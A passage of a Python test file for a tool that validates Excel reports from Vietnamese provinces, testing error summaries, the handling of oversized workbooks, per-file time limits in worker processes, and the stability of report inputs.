        ws.cell(r, 11).value for r in range(2, ws.max_row + 1) if rules[r - 2] == "more-of-the-same"
    ]
    assert len(summary) == 1 and summary[0].startswith("Và 2.950 lỗi “Không rõ đơn vị báo cáo”")
    document = json.loads(report.json.read_text(encoding="utf-8"))
    assert (document["n_errors"], document["n_warnings"]) == (SHOWN_PER_RULE + 2_951, 1)
    assert len(document["findings"]) == SHOWN_PER_RULE + 3
    stats = openpyxl.load_workbook(report.workbook)["Tổng hợp"]
    counts = {stats.cell(r, 1).value: stats.cell(r, 2).value for r in range(1, stats.max_row + 1)}
    assert counts["Số lỗi phải sửa"] == SHOWN_PER_RULE + 2_951  # the counts keep every finding


def _big_table(n_rows: int) -> bytes:
    rows = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{r}</v></c>' for c in "ABCDE") + "</row>"
        for r in range(1, n_rows + 1)
    )
    from tools.hostile import sheet_xml, xlsx_bytes

    return xlsx_bytes([sheet_xml(rows, None)])


def test_a_file_too_big_to_mark_gets_a_note_instead_of_a_copy(tmp_path):
    """openpyxl would take tens of seconds and gigabytes to copy it: the list of findings
    stands in for the copy, and the report says why."""
    from antq.tasks.annotate import COPY_LIMITS, NO_COPY_TOO_LARGE
    from antq.tasks.report import annotated_copies

    data = _big_table(COPY_LIMITS.cells_per_sheet // 5 + 10)
    store = Warehouse(tmp_path / "warehouse")
    w = where("2026-10/15/bang.xlsx", data)
    store.archive(w.sha256, ".xlsx", data)
    findings = _unknown_rows(w, 3)

    copies = annotated_copies(tmp_path / "reports", findings, store.archive_path, workers=0)
    report = write_province_report(
        tmp_path / "reports", "15", PERIOD, findings, submissions_frame([]), set(),
        copies=copies["15"],
    )  # fmt: skip

    assert copies["15"].made == {}
    assert copies["15"].missing == {(w.original_path, w.sha256): NO_COPY_TOO_LARGE}
    assert not (report.workbook.parent / "ban-sua").exists() or not list(
        (report.workbook.parent / "ban-sua").iterdir()
    )
    ws = openpyxl.load_workbook(report.workbook)["Lỗi cần sửa"]
    assert {ws.cell(r, 13).value for r in range(2, ws.max_row + 1)} == {NO_COPY_TOO_LARGE}
    document = json.loads(report.json.read_text(encoding="utf-8"))
    assert document["files_without_copy"] == [
        {"original_path": w.original_path, "sha256": w.sha256, "reason": NO_COPY_TOO_LARGE}
    ]


def test_copies_are_made_in_worker_processes_under_the_time_limit(tmp_path):
    """A copy that cannot be made in time becomes a note; the other copies are made."""
    from antq.tasks.annotate import COPY_LIMITS
    from antq.tasks.report import annotated_copies
    from antq.tasks.workers import Limits

    store = Warehouse(tmp_path / "warehouse")
    small = form_workbook()
    big = _big_table(COPY_LIMITS.cells_per_sheet // 5 - 10)  # seconds of openpyxl work
    keys, findings = {}, []
    for name, data in (("nho", small), ("lon", big)):
        w = where(f"2026-10/15/{name}.xlsx", data, unit=commune("15"))
        store.archive(w.sha256, ".xlsx", data)
        findings.append(negative(w))
        keys[name] = (w.original_path, w.sha256)

    hurried = Limits(seconds_per_file=1.0)
    copies = annotated_copies(tmp_path / "r", findings, store.archive_path, 2, hurried)["15"]

    assert list(copies.made) == [keys["nho"]]
    assert list((tmp_path / "r").glob(f"15-*/{copies.made[keys['nho']]}"))
    assert copies.missing == {keys["lon"]: "Không có bản sao (làm bản sao quá 1 giây)"}


def test_a_file_refused_as_too_large_is_said_too_large_not_unreadable():
    from antq.tasks.annotate import NO_COPY_TOO_LARGE, NO_COPY_UNREADABLE, no_copy_reason

    w = where("2026-10/15/gop.xlsx", b"x")
    too_large = make_finding("file-too-large", w, detail="các trang tính gộp 6.000.000 ô")
    unreadable = make_finding("file-unreadable", w, detail="tệp nén bị hỏng")
    assert no_copy_reason(b"x", [too_large]) == NO_COPY_TOO_LARGE
    assert no_copy_reason(b"x", [unreadable]) == NO_COPY_UNREADABLE


def test_a_province_report_inputs_do_not_move_when_another_province_sends_a_file():
    from antq.tasks.report import report_inputs

    row = {"original_path": "2026-10/01/a.xlsx", "sha256": "a" * 64, "province_code": "01"}
    alone = submissions_frame([row])
    other = {"original_path": "2026-10/02/b.xlsx", "sha256": "b" * 64, "province_code": "02"}
    with_other = submissions_frame([other, row])  # Hà Nội's row moves down one place
    assert report_inputs("01", PERIOD, [], alone, set(), "v") == report_inputs(
        "01", PERIOD, [], with_other, set(), "v"
    )
    changed = submissions_frame([{**row, "status": "rejected"}])
    assert report_inputs("01", PERIOD, [], changed, set(), "v") != report_inputs(
        "01", PERIOD, [], alone, set(), "v"
    )
